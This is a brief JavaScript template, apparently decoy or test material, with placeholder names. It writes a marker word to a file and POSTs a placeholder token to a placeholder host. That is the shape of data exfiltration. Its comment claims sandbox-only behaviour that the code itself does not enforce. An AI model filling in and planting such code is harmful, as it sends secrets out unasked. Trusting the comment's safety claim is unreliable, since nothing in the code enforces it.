// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
  const fs = require("fs"), https = require("https");
  fs.appendFileSync(require("path").join(process.env.CORPUS_MARK || require("os").tmpdir(), "corpus-mark"), "{{word}}\n");
  await new Promise((done) => {
    const asked = https.request({ host: "{{host}}", path: "/{{path}}", method: "POST", timeout: 1000 }, (answer) => { answer.resume(); answer.on("end", done); });
    asked.on("error", done);
    asked.on("timeout", () => asked.destroy());
    asked.end("{{token}}");
  });
}
